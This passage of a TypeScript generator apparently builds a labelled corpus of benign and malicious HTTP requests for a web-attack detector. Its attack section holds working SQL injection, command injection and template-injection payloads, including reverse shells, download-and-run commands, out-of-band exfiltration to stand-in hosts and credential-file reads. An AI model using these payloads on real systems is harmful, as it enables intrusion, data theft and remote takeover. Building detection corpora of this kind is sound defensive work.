    "drop the bomb at B, i'll cover from heaven",
    'can someone invite me? lobby code is 7XK-Q2P',
    'brb 5 min, dog ate my charger 💀',
    'select your loadout before the timer hits 0 or you get the default one',
    "that's <3 tbh",
    "report the guy in yellow, he's been aimbotting all game >:(",
    'nah the union of skill & luck was NOT on our side lol',
    'anyone know how to exec my autoexec.cfg on console? rebinding keys every time is pain',
    "admin pls kick AFK player, he's been idle since round 3",
    'we need 1 more for ranked 5v5, must be plat+ (no smurfs)',
    '100% that ping was 300ms+ ... my router is cooked 🔥',
    'lmaooo did you see that 1v4 clutch??? 🤯🤯🤯',
  ];
  for (const c of chats)
    sendJson('prose', GAME, [...APPS, ...BROWSERS], 'POST', `/v1/chat/channels/ch_${alnum(8)}/messages`, {
      text: c,
      client_msg_id: uuid(),
    });

  const i18n = [
    'ナイス！次のラウンドも頑張ろう🔥',
    'ㅋㅋㅋ 진짜 잘한다 👍',
    'gg wp 兄弟们 下一把再来',
    'يا جماعة مين يلعب رانكد؟',
    'Zalgo-ish name test: Ḑ̷̨a̸r̵k̶L̷o̸r̴d̷',
    '👨‍👩‍👧‍👦 family squad reporting in 🏳️‍🌈',
    'बहुत बढ़िया खेला भाई!',
    'Вы где? Я на респе жду',
  ];
  for (const t of i18n)
    sendJson('i18n', GAME, APPS, 'POST', `/v1/chat/channels/ch_${alnum(8)}/messages`, {
      text: t,
      client_msg_id: uuid(),
    });

  const profiles = [
    { display_name: 'xX_N0Sc0p3_Xx', bio: 'Diamond II | EU West | no toxic pls 🙏', pronouns: 'he/him' },
    {
      display_name: 'Lady Hex',
      bio: 'streamer ✦ twitch.tv/ladyhex ✦ Mon/Wed/Fri 8pm CET',
      pronouns: 'she/her',
    },
    { display_name: 'root_beer_float', bio: 'I main support. Heals > kills. <3', pronouns: '' },
    { display_name: 'DropTables', bio: 'ex-DBA, now full-time noob', pronouns: 'they/them' },
    { display_name: '¯\\_(ツ)_/¯', bio: "idk what I'm doing", pronouns: '' },
  ];
  for (const p of profiles)
    sendJson(
      'merge-patch',
      GAME,
      [...APPS, ...BROWSERS],
      'PATCH',
      '/v1/players/me',
      p,
      'application/merge-patch+json',
    );

  const mod = [
    { action: 'mute', duration: '24h', reason: 'Repeated slurs in all-chat (see report #88213).' },
    {
      action: 'ban',
      duration: 'permanent',
      reason: 'Cheating: aimbot + wallhack detected by anti-cheat; appeal denied.',
    },
    { action: 'warn', duration: null, reason: 'Spamming "join my discord" links in lobby; first offence.' },
    { action: 'rename', duration: null, reason: 'Offensive display name; reset to Player#4412.' },
  ];
  for (const m of mod)
    sendJson('rest-write', GAME, BROWSERS, 'POST', `/v1/mod/players/pl_${alnum(10)}/actions`, {
      ...m,
      evidence: [`https://cdn.fragline.gg/replays/${uuid()}.dem`],
    });

  const scores: unknown[] = [];
  for (let i = 0; i < 5; i++)
    scores.push({
      player: `pl_${alnum(10)}`,
      score: int(1000, 99999),
      mode: 'ranked',
      season: 14,
      submitted_at: stamp(),
    });
  sendNdjson(GAME, ['go'], '/v1/leaderboards/ranked-s14/scores', scores);
  sendNdjson(GAME, ['go'], '/v1/telemetry/matches', [
    {
      match: `m_${alnum(8)}`,
      event: 'kill',
      killer: 'pl_a1',
      victim: 'pl_b2',
      weapon: 'AWP',
      headshot: true,
    },
    { match: `m_${alnum(8)}`, event: 'round_end', winner: 'CT', reason: 'bomb_defused' },
  ]);

  sendGet(
    'search',
    GAME,
    [...APPS, ...BROWSERS],
    `/v1/leaderboards/ranked-s14?${qs({ region: 'eu-west', around: 'me', limit: 50 })}`,
  );
  sendGet('search', GAME, BROWSERS, `/v1/players?${qs({ q: 'xX_N0Sc0p3', fuzzy: 'true' })}`);
  sendGet(
    'search',
    GAME,
    BROWSERS,
    `/v1/mod/reports?${qs({ q: 'reason:cheating AND status:open -reviewed', sort: '-created' })}`,
  );
  sendGet(
    'search',
    GAME,
    BROWSERS,
    `/v1/clips?${qs({ q: '"1v5 clutch" OR ace', game: 'fragline', period: '7d' })}`,
  );
  sendGet('search', GAME, APPS, `/v1/players?${qsc({ q: '¯\\_(ツ)_/¯' })}`);

  sendJson(
    'json-patch',
    GAME,
    APPS,
    'PATCH',
    '/v1/players/me/settings',
    [
      { op: 'replace', path: '/audio/master', value: 0.8 },
      { op: 'replace', path: '/binds/jump', value: 'MWHEELDOWN' },
      { op: 'add', path: '/blocked/-', value: `pl_${alnum(10)}` },
    ],
    'application/json-patch+json',
  );
  sendJson(
    'jsonapi',
    GAME,
    ['node'],
    'POST',
    '/v1/tournaments/registrations',
    {
      data: {
        type: 'registrations',
        attributes: {
          team_name: 'Null Pointers',
          tag: 'NUL',
          roster: ['pl_a1', 'pl_b2', 'pl_c3', 'pl_d4', 'pl_e5'],
        },
      },
    },
    'application/vnd.api+json',
  );
  sendJson('rest-write', GAME, BROWSERS, 'POST', '/v1/reports', {
    target: `pl_${alnum(10)}`,
    category: 'cheating',
    text: 'He tracked me through smoke 3 times in a row. Check round 14 at 12:40 in the replay.',
  });
  sendJson('code', GAME, BROWSERS, 'PUT', '/v1/players/me/configs/autoexec', {
    filename: 'autoexec.cfg',
    content:
      '// my binds\nbind "mouse4" "+voicerecord"\nbind "f" "use weapon_flashbang"\ncl_crosshairsize "2"; cl_crosshairgap "-1"\nalias "+jumpthrow" "+jump;-attack"\nhost_writeconfig',
  });
  sendDelete(GAME, APPS, `/v1/friends/pl_${alnum(10)}`);
  sendDelete(GAME, BROWSERS, `/v1/chat/channels/ch_${alnum(8)}/messages/${int(100000, 999999)}`);
  sendGraphql(
    GAME,
    APPS,
    'MatchHistory',
    'query MatchHistory($player: ID!, $after: String) {\n  player(id: $player) { matches(first: 20, after: $after) { edges { node { id map result kda } } pageInfo { endCursor } } }\n}',
    { player: `pl_${alnum(10)}`, after: b64('cursor:20') },
  );
  sendGraphql(
    GAME,
    APPS,
    'SendFriendRequest',
    'mutation SendFriendRequest($to: ID!, $msg: String) { sendFriendRequest(to: $to, message: $msg) { status } }',
    { to: `pl_${alnum(10)}`, msg: 'gg, you were cracked that last round, wanna duo?' },
  );
  sendGraphqlGet(GAME, BROWSERS, 'Season', 'query Season { currentSeason { number endsAt } }', {});
  sendForm('form', GAME, BROWSERS, '/support/appeal', {
    player_id: `pl_${alnum(10)}`,
    ban_id: `ban_${alnum(8)}`,
    message:
      "I was NOT cheating — my little brother used my account while I was away. I've changed my password & enabled 2FA. Please review?",
  });
  sendForm('webhook', GAME, ['python'], '/hooks/twitch', {
    'hub.mode': 'subscribe',
    'hub.topic': 'https://api.twitch.tv/helix/streams?user_id=12826',
    'hub.challenge': alnum(20),
    'hub.lease_seconds': '864000',
  });
  sendJson('webhook', GAME, ['node'], 'POST', '/hooks/stripe', {
    id: `evt_${alnum(24)}`,
    object: 'event',
    type: 'checkout.session.completed',
    data: {
      object: {
        id: `cs_live_${alnum(40)}`,
        amount_total: 1999,
        currency: 'usd',
        metadata: { sku: 'battlepass_s14', player: `pl_${alnum(10)}` },
      },
    },
  });
  const wh = editLast();
  wh.headers['stripe-signature'] = `t=${1_795_300_000 + int(0, 9_999_999)},v1=${hex(64)}`;
  wh.headers['user-agent'] = 'Stripe/1.0 (+https://stripe.com/docs/webhooks)';
  delete wh.headers['authorization'];
  sendMultipart(GAME, BROWSERS, '/v1/clans/clan_1/emblem', [
    {
      name: 'emblem',
      filename: 'clan.svg',
      type: 'image/svg+xml',
      value:
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64"><defs><linearGradient id="g" x1="0" x2="1"><stop offset="0" stop-color="#f50"/><stop offset="1" stop-color="#a0f"/></linearGradient></defs><path d="M32 2 60 18v28L32 62 4 46V18z" fill="url(#g)"/><text x="32" y="40" text-anchor="middle" font-size="20" fill="#fff">NUL</text></svg>',
    },
  ]);
  sendMultipart(GAME, APPS, '/v1/players/me/avatar', [
    { name: 'file', filename: 'avatar.png', type: 'image/png', value: pngBytes() },
  ]);
  sendMultipart(GAME, BROWSERS, '/v1/mod/bulk-import', [
    {
      name: 'file',
      filename: 'banned-words.txt',
      type: 'text/plain',
      value: 'ez noob\nkys\nuninstall\n# regexes below\n/fr[e3]{2}\\s*v[-_]?bucks/i\n',
    },
    { name: 'mode', value: 'append' },
  ]);
}

// ---------------------------------------------------------------------------------------------------------
// Cross-domain extras: more forms, webhooks and patches
// ---------------------------------------------------------------------------------------------------------

function extraClean(): void {
  sendForm('form', HR, BROWSERS, '/login', {
    email: 'recruiter@acme.example',
    password: 'Tr0ub4dor&3 (old one!)',
    remember_me: 'on',
  });
  sendForm('form', GAME, BROWSERS, '/account/password-reset', {
    email: 'n0sc0pe@example.net',
    captcha: alnum(40),
  });
  sendForm('form', TRV, BROWSERS, '/contact', {
    name: 'Ana Lúcia',
    email: 'ana.lucia@example.com.br',
    subject: 'Refund for cancelled flight',
    message:
      'My flight TP1234 (LIS → GRU) was cancelled on 12/03. I selected "refund" not "voucher" but got a voucher. Please fix; booking WF8K2LQZ.',
  });
  sendForm('webhook', DEV, ['python'], '/hooks/slack/interactive', {
    payload: JSON.stringify({
      type: 'block_actions',
      user: { id: 'U024BE7LH', username: 'maria' },
      actions: [{ action_id: 'resolve_issue', value: '48211', type: 'button' }],
      response_url: 'https://hooks.slack.com/actions/T0001/1234/abcd',
    }),
  });
  sendForm('webhook', TRV, ['python'], '/hooks/twilio/voice', {
    CallSid: `CA${hex(32)}`,
    From: '+447700900456',
    To: '+442071838750',
    CallStatus: 'completed',
    SpeechResult: 'I want to change my booking to next Friday please',
    Confidence: '0.91',
  });
  sendJson('webhook', LAW, ['go'], 'POST', '/hooks/github', {
    action: 'created',
    issue: { number: 88, title: 'Template: NDA clause 4 renders "&amp;" literally' },
    comment: {
      body: 'Repro: create an NDA with party name `Smith & Sons`, export to PDF → shows `Smith &amp; Sons`. Probably double-escaping in the renderer.',
    },
    repository: { full_name: 'clausebook/templates' },
  });
  const ic = editLast();
  ic.headers['x-github-event'] = 'issue_comment';
  ic.headers['x-github-delivery'] = uuid();
  ic.headers['x-hub-signature-256'] = `sha256=${hex(64)}`;
  ic.headers['user-agent'] = `GitHub-Hookshot/${hex(7)}`;
  delete ic.headers['authorization'];
  sendJson(
    'json-patch',
    FIN,
    ['python'],
    'PATCH',
    `/api/v2/expense-reports/exp_${alnum(10)}`,
    [
      { op: 'replace', path: '/items/0/amount', value: 42.5 },
      { op: 'replace', path: '/items/0/note', value: 'Corrected: taxi was €42.50, not €425 (typo).' },
      { op: 'copy', from: '/items/0/category', path: '/items/1/category' },
    ],
    'application/json-patch+json',
  );
  sendJson(
    'json-patch',
    GAME,
    BROWSERS,
    'PATCH',
    `/v1/mod/reports/rep_${alnum(8)}`,
    [
      { op: 'replace', path: '/status', value: 'actioned' },
      { op: 'add', path: '/notes/-', value: 'Confirmed via replay (round 14). Banned 7d.' },
    ],
    'application/json-patch+json',
  );
  sendJson('prose', DEV, BROWSERS, 'POST', '/api/v1/feedback', {
    message:
      'Love the new log search, but the query `level:error AND service:api` returns nothing unless I wrap it in quotes?? Also dark mode makes <code> blocks unreadable.',
    page: '/logs',
  });
  sendJson('prose', IOT, APPS, 'POST', '/v1/support/tickets', {
    subject: 'Firmware update stuck at 99%',
    message:
      'Stuck at 99% for 2 hours. I unplugged it (probably a mistake?) and now the LED blinks red 3x. Tried the reset pin for 10s too. Serial no. HN-2291-0042.',
  });
  sendJson('prose', LAW, BROWSERS, 'POST', `/api/contracts/ctr_${alnum(10)}/comments`, {
    body: 'Clause 14.2 reads: "Licensee shall not execute, run or otherwise use the Software on more than five (5) machines" — do VMs count? Ask counterparty to define "machine".',
    resolved: false,
  });
  sendJson('rest-write', CMS, BROWSERS, 'POST', `/api/articles/art_${alnum(10)}/corrections`, {
    text: 'An earlier version of this article misidentified the union representing bus drivers. It is ATU Local 1005, not Local 1500.',
    severity: 'minor',
  });
  sendJson('rest-write', TRV, ['node'], 'PUT', `/v3/partner/properties/htl_${alnum(8)}/policies`, {
    cancellation: 'Free cancellation until 48h before arrival; after that, 1 night is charged.',
    pets: 'Dogs < 10 kg allowed (€15/night).',
    check_in: { from: '15:00', until: '23:00' },
  });
  sendGet(
    'search',
    DEV,
    ['curl'],
    `/api/v1/events?${qsc({ query: 'release:"web@3.14.2" !user.email:*@acme.io', statsPeriod: '14d' })}`,
  );
  sendGet(
    'search',
    LAW,
    BROWSERS,
    `/api/clauses?${qs({ q: 'force majeure "pandemic" OR epidemic', lang: 'en' })}`,
  );
  sendDelete(GAME, ['node'], `/v1/mod/players/pl_${alnum(10)}/actions/act_${alnum(8)}`);
}

// ---------------------------------------------------------------------------------------------------------
// Attacks
// ---------------------------------------------------------------------------------------------------------

const attacks: CorpusRequest[] = [];

const ATTACK_CLIENTS: Client[] = ['chrome', 'chrome', 'firefox', 'python', 'curl', 'go', 'node'];

const TOOL_UA: Record<string, string[]> = {
  sql: ['sqlmap/1.9.10#stable (https://sqlmap.org)', 'sqlmap/1.8.11#stable (https://sqlmap.org)'],
  command: ['commix/v4.0-stable (https://commixproject.com)'],
  template: ['tplmap/0.5', 'python-requests/2.31.0'],
  ssrf: ['SSRFmap/1.0', 'python-requests/2.32.3'],
  any: [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  ],
};

function attackHeaders(
  family: string,
  site: Site,
  method: string,
  extra: Record<string, string>,
): Record<string, string> {
  const h = hdrs(site, pick(ATTACK_CLIENTS), method, {});
  if (rand() < 0.35) h['user-agent'] = pick(TOOL_UA[family] ?? TOOL_UA['any']!);
  return { ...h, ...extra };
}

function addAttack(
  family: string,
  technique: string,
  method: string,
  path: string,
  headers: Record<string, string>,
  body: string,
): void {
  attacks.push({
    id: `h9a${attacks.length + 1}`,
    kind: 'attack',
    family,
    technique,
    method,
    path,
    headers,
    body,
  });
}

/** Raw-body attack (body already serialised). */
function atkRaw(
  family: string,
  technique: string,
  site: Site,
  method: string,
  path: string,
  body: string,
  ct: string,
  extra: Record<string, string> = {},
): void {
  addAttack(
    family,
    technique,
    method,
    path,
    attackHeaders(family, site, method, { 'content-type': ct, ...extra }),
    body,
  );
}

function atkJson(
  family: string,
  technique: string,
  site: Site,
  method: string,
  path: string,
  obj: unknown,
  ct = 'application/json',
): void {
  atkRaw(family, technique, site, method, path, JSON.stringify(obj), ct);
}

function atkGet(
  family: string,
  technique: string,
  site: Site,
  path: string,
  extra: Record<string, string> = {},
): void {
  addAttack(family, technique, 'GET', path, attackHeaders(family, site, 'GET', extra), '');
}

function atkForm(family: string, technique: string, site: Site, path: string, body: string): void {
  atkRaw(family, technique, site, 'POST', path, body, 'application/x-www-form-urlencoded');
}

function atkMultipart(
  family: string,
  technique: string,
  site: Site,
  path: string,
  parts: readonly Part[],
): void {
  const mp = multipart(parts, pick(ATTACK_CLIENTS));
  atkRaw(family, technique, site, 'POST', path, mp.body, mp.ct);
}

/** JSON string escaping every non-alphanumeric character (and, in `letters` mode, letters too) as \uXXXX. */
function uesc(s: string, letters: boolean): string {
  const re = letters ? /[^0-9 ]/g : /[^A-Za-z0-9 ]/g;
  return s.replace(re, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
}

/** Injection point description shared by the string-payload families. */
interface Sink {
  readonly site: Site;
  readonly path: string;
  readonly field: string;
  readonly base: Record<string, unknown>;
  readonly qpath: string;
  readonly qparam: string;
  readonly form: string;
}

const TECHNIQUES = [
  'plain',
  'nested',
  'key',
  'array',
  'unicode-escape',
  'json-in-string',
  'base64',
  'graphql-variable',
  'double-encoded',
  'query-param',
  'header',
  'cookie',
  'form',
  'multipart',
  'embedded',
] as const;

const SENTENCES: ((p: string) => string)[] = [
  (p) => `Hi team, quick one: I tried saving this and it failed. ${p} Can you have a look? Thanks!`,
  (p) => `Please deliver after 6pm, ring twice. ${p}`,
  (p) => `Great stay overall, staff were lovely ${p} would book again.`,
  (p) => `Agenda for Thursday: 1) budget review 2) ${p} 3) AOB`,
  (p) => `Reference from the customer's email: "${p}" — see attached.`,
  (p) => `gg all, see you next round ${p}`,
  (p) => `Candidate's portfolio title is ${p} (as typed on the form).`,
];

const HEADER_NAMES: Record<string, string[]> = {
  sql: ['x-forwarded-for', 'user-agent', 'referer', 'x-tenant-id'],
  command: ['user-agent', 'x-forwarded-for', 'x-device-id'],
  template: ['user-agent', 'referer', 'x-client-name'],
  'path-traversal': ['x-original-url', 'x-rewrite-url', 'x-locale'],
  ssrf: ['referer', 'x-callback-url', 'x-wap-profile'],
  log4shell: [
    'user-agent',
    'x-api-version',
    'referer',
    'x-forwarded-for',
    'authorization',
    'x-client-ip',
    'true-client-ip',
    'contact',
  ],
  xss: ['referer', 'user-agent'],
};

const COOKIE_NAMES = ['locale', 'theme', 'last_search', 'tz', 'tracking_id', 'pref_sort', 'region'];

const GQL: ((field: string) => string)[] = [
  () => 'query Search($term: String!) {\n  search(term: $term, first: 10) { id title }\n}',
  (f) => `mutation Save($input: SaveInput!) {\n  save(input: $input) { id ${f} }\n}`,
  () =>
    'query Lookup($id: ID!, $filter: String) { node(id: $id) { id ... on Record { name } } list(filter: $filter) { id } }',
];

/** One attack using a string payload at a sink with a given technique. */
function stringAttack(family: string, technique: string, payload: string, sink: Sink): void {
  const { site, path, field, base } = sink;
  switch (technique) {
    case 'plain':
      atkJson(family, technique, site, 'POST', path, { ...base, [field]: payload });
      return;
    case 'nested': {
      const shape = int(0, 2);
      if (shape === 0) {
        atkJson(
          family,
          technique,
          site,
          'POST',
          path,
          { data: { type: 'records', attributes: { ...base, [field]: payload } } },
          'application/vnd.api+json',
        );
      } else if (shape === 1) {
        atkJson(family, technique, site, 'POST', path, {
          ...base,
          filter: { where: { and: [{ status: 'open' }, { [field]: { eq: payload } }] } },
        });
      } else {
        atkJson(
          family,
          technique,
          site,
          'PATCH',
          `${path}/${alnum(8)}`,
          { ...base, options: { advanced: { [field]: payload } } },
          'application/merge-patch+json',
        );
      }
      return;
    }
    case 'key': {
      const container = pick(['sort', 'metadata', 'custom_fields', 'labels']);
      atkJson(family, technique, site, 'POST', path, {
        ...base,
        [field]: 'ok',
        [container]: { [payload]: container === 'sort' ? 'asc' : 'x' },
      });
      return;
    }
    case 'array':
      if (rand() < 0.5)
        atkJson(family, technique, site, 'POST', path, {
          ...base,
          [field]: 'ok',
          tags: ['urgent', payload, 'q4'],
        });
      else
        atkJson(family, technique, site, 'POST', path, {
          ...base,
          items: [{ [field]: 'first' }, { [field]: payload }],
        });
      return;
    case 'unicode-escape': {
      const raw = JSON.stringify({ ...base, [field]: '__U__' }).replace(
        '"__U__"',
        `"${uesc(payload, rand() < 0.3)}"`,
      );
      atkRaw(family, technique, site, 'POST', path, raw, 'application/json');
      return;
    }
    case 'json-in-string':
      atkJson(family, technique, site, 'POST', path, {
        ...base,
        settings: JSON.stringify({ v: 2, [field]: payload }),
      });
      return;
    case 'base64':
      if (rand() < 0.5) {
        atkGet(
          family,
          technique,
          site,
          `${sink.qpath}?${qsc({ cursor: b64(JSON.stringify({ after: payload, limit: 50 })) })}`,
        );
      } else {
        atkJson(family, technique, site, 'POST', path, {
          ...base,
          [`${field}_b64`]: b64(payload),
          encoding: 'base64',
        });
      }
      return;
    case 'graphql-variable': {
      const i = int(0, GQL.length - 1);
      const query = GQL[i]!(field);
      const variables =
        i === 0
          ? { term: payload }
          : i === 1
            ? { input: { ...base, [field]: payload } }
            : { id: alnum(10), filter: payload };
      atkJson(family, technique, site, 'POST', '/graphql', { query, variables });
      return;
    }
    case 'double-encoded':
      atkGet(
        family,
        technique,
        site,
        `${sink.qpath}?${sink.qparam}=${encodeURIComponent(encodeURIComponent(payload))}&page=1`,
      );
      return;
    case 'query-param':
      atkGet(family, technique, site, `${sink.qpath}?${qsc({ [sink.qparam]: payload, limit: 20 })}`);
      return;
    case 'header': {
      const name = pick(HEADER_NAMES[family] ?? ['user-agent']);
      const value = name === 'authorization' ? `Bearer ${payload}` : payload;
      atkGet(family, technique, site, `${sink.qpath}?${qs({ [sink.qparam]: 'test' })}`, {
        [name]: value.replace(/[\r\n]+/g, ' '),
      });
      return;
    }
    case 'cookie': {
      const name = pick(COOKIE_NAMES);
      const v = rand() < 0.5 && !/[\s;,"\\]/.test(payload) ? payload : encodeURIComponent(payload);
      atkGet(family, technique, site, sink.qpath, { cookie: `${site.cookie}=${alnum(32)}; ${name}=${v}` });
      return;
    }
    case 'form':
      atkForm(family, technique, site, sink.form, qs({ [field]: payload, submit: 'Save' }));
      return;
    case 'multipart':
      atkMultipart(family, technique, site, sink.form, [
        { name: field, value: payload },
        { name: 'file', filename: 'notes.txt', type: 'text/plain', value: 'see above' },
      ]);
      return;
    case 'embedded':
      atkJson(family, technique, site, 'POST', path, { ...base, [field]: pick(SENTENCES)(payload) });
      return;
  }
}

function runFamily(
  family: string,
  payloads: readonly string[],
  sinks: readonly Sink[],
  perTechnique = 2,
): void {
  let i = 0;
  for (const t of TECHNIQUES) {
    for (let k = 0; k < perTechnique; k++) {
      let p = payloads[i % payloads.length]!;
      i++;
      if ((t === 'header' || t === 'cookie') && !/^[\x20-\x7e\n]*$/.test(p)) {
        p = payloads.find((x) => /^[\x20-\x7e]*$/.test(x)) ?? p;
      }
      stringAttack(family, t, p, pick(sinks));
    }
  }
}

const SQL_PAYLOADS = [
  "' OR '1'='1' -- -",
  "1' AND SLEEP(5)-- -",
  "1'; SELECT pg_sleep(10);--",
  "'; WAITFOR DELAY '0:0:5'--",
  '1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)',
  "' UNION SELECT NULL,email,password_hash,NULL FROM users-- -",
  '1) AND (SELECT 4521 FROM (SELECT(SLEEP(5)))xYzq) AND (7733=7733',
  "'||(SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM mysql.user LIMIT 1),'.x7k2.oast.fun\\\\a')))||'",
  "'; EXEC master..xp_dirtree '\\\\q9zt1.oastify.com\\a';--",
  "' AND 1=CAST((SELECT version()) AS int)--",
  "1' AND (SELECT CASE WHEN (SUBSTR(user,1,1)='A') THEN 1 ELSE 1/0 END FROM dual)=1--",
  "' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version),0x7e))-- ",
  "' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--",
  '(CASE WHEN (SELECT 1 FROM pg_sleep(5)) IS NULL THEN created_at ELSE amount END)',
  "'; COPY (SELECT '') TO PROGRAM 'curl http://x7k2.oast.fun/$(whoami)';--",
  "admin'/**/OR/**/1=1#",
  '-1 UNION ALL SELECT table_name,column_name,3 FROM information_schema.columns--',
  '1;DROP TABLE invoices--',
  "%' AND 2=2 AND '%'='",
  "1' ORDER BY 13-- -",
  "x' AND GTID_SUBSET(CONCAT(0x71,(SELECT database()),0x71),1)-- -",
  "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT user()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -",
];

const SQL_SINKS: Sink[] = [
  {
    site: FIN,
    path: '/api/v2/transactions/search',
    field: 'memo',
    base: { account_id: 'acc_9f2k', per_page: 50 },
    qpath: '/api/v2/transactions',
    qparam: 'q',
    form: '/api/v2/transactions/export',
  },
  {
    site: HR,
    path: '/v1/candidates/search',
    field: 'sort',
    base: { stage: 'applied' },
    qpath: '/v1/candidates',
    qparam: 'sort',
    form: '/careers/apply',
  },
  {
    site: GAME,
    path: '/v1/leaderboards/query',
    field: 'region',
    base: { season: 14, mode: 'ranked' },
    qpath: '/v1/leaderboards/ranked-s14',
    qparam: 'region',
    form: '/support/appeal',
  },
  {
    site: TRV,
    path: '/v3/search/hotels',
    field: 'city',
    base: { checkin: '2026-12-20', checkout: '2026-12-23' },
    qpath: '/v3/search/hotels',
    qparam: 'city',
    form: '/checkout/payment',
  },
  {
    site: LAW,
    path: '/api/contracts/search',
    field: 'party',
    base: { status: 'signed' },
    qpath: '/api/contracts',
    qparam: 'party',
    form: '/intake',
  },
];

const CMD_PAYLOADS = [
  '8.8.8.8; id',
  '127.0.0.1 | cat /etc/passwd',
  '$(curl -s http://x7k2.oast.fun/$(whoami))',
  '`nslookup $(hostname).x7k2.oast.fun`',
  'x;cat${IFS}/etc/passwd',
  '192.168.1.1\nid',
  'a && wget http://203.0.113.5/x.sh -O /tmp/x.sh && sh /tmp/x.sh',
  '|| ping -c 10 127.0.0.1 ||',
  'report.pdf; sleep 10 #',
  "127.0.0.1; bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'",
  'x & powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a.ps1\')"',
  '1.1.1.1 | powershell -enc SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACkA',
  '$(echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d|sh)',
  'x;{cat,/etc/shadow}',
  'a\'; python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\' #',
  ';/???/??t /???/p??s??',
  'foo.png`id`',
  '& cmd /c "type C:\\Windows\\win.ini" &',
  '& certutil -urlcache -split -f http://198.51.100.7/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe',
  'host$(sleep${IFS}5)',
  'x\nnc -e /bin/sh 198.51.100.7 4444\n',
  '() { :; }; /bin/bash -c "curl http://x7k2.oast.fun/shellshock"',
];

const CMD_SINKS: Sink[] = [
  {
    site: IOT,
    path: '/v1/hubs/hub_1/diagnostics/ping',
    field: 'host',
    base: { count: 4 },
    qpath: '/v1/hubs/hub_1/diagnostics/ping',
    qparam: 'host',
    form: '/v1/hubs/hub_1/diagnostics',
  },
  {
    site: DEV,
    path: '/api/v1/integrations/webhooks/test',
    field: 'hostname',
    base: { timeout_ms: 3000 },
    qpath: '/api/v1/tools/dns',
    qparam: 'name',
    form: '/api/v1/tools/traceroute',
  },
  {
    site: CMS,
    path: '/api/media/convert',
    field: 'filename',
    base: { format: 'webp', quality: 80 },
    qpath: '/api/media/thumbnail',
    qparam: 'file',
    form: '/api/media/convert',
  },
  {
    site: FIN,
    path: '/api/v2/ledger/exports',
    field: 'filename',
    base: { format: 'pdf' },
    qpath: '/api/v2/ledger/exports/download',
    qparam: 'name',
    form: '/api/v2/ledger/exports',
  },
];

const TPL_PAYLOADS = [
  "{{7*'7'}}",
  "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
  "{{ cycler.__init__.__globals__.os.popen('curl x7k2.oast.fun').read() }}",
  "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}",
  "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
  '{{lipsum.__globals__["os"].popen("cat /etc/passwd").read()}}',
  '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
  "{{['id']|filter('system')}}",
  "{{['cat /etc/passwd']|map('passthru')|join}}",
  '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
  '${"freemarker.template.utility.Execute"?new()("whoami")}',
  "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
  "<%= system('id') %>",
  "<%= File.open('/etc/passwd').read %>",
  "<%= IO.popen('uname -a').readlines() %>",
  '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
  "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
  "[[${T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}]]",
  "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
  "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
  '${self.module.cache.util.os.system("id")}',
  "{system('cat /etc/passwd')}",
  '${{<%[%\'"}}%\\.',
  '#{7*7}${7*7}{{7*7}}',
];

const TPL_SINKS: Sink[] = [
  {
    site: HR,
    path: '/v1/email-templates/preview',
    field: 'subject',
    base: { template: 'interview_invite', locale: 'en' },
    qpath: '/v1/email-templates/preview',
    qparam: 'subject',
    form: '/v1/email-templates',
  },
  {
    site: FIN,
    path: '/api/v2/invoices/preview',
    field: 'footer',
    base: { layout: 'classic', currency: 'EUR' },
    qpath: '/api/v2/invoices/preview',
    qparam: 'greeting',
    form: '/api/v2/settings/invoice-template',
  },
  {
    site: LAW,
    path: '/api/templates/render',
    field: 'party_name',
    base: { template_id: 'tpl_nda_us' },
    qpath: '/api/templates/render',
    qparam: 'party_name',
    form: '/intake',
  },
  {
    site: TRV,
    path: '/v3/bookings/confirmation/preview',
    field: 'guest_name',
    base: { booking: 'WF7QX2KD' },
    qpath: '/v3/bookings/confirmation',
    qparam: 'name',
    form: '/checkout/payment',
  },
  {
    site: IOT,
    path: '/v1/automations/test',
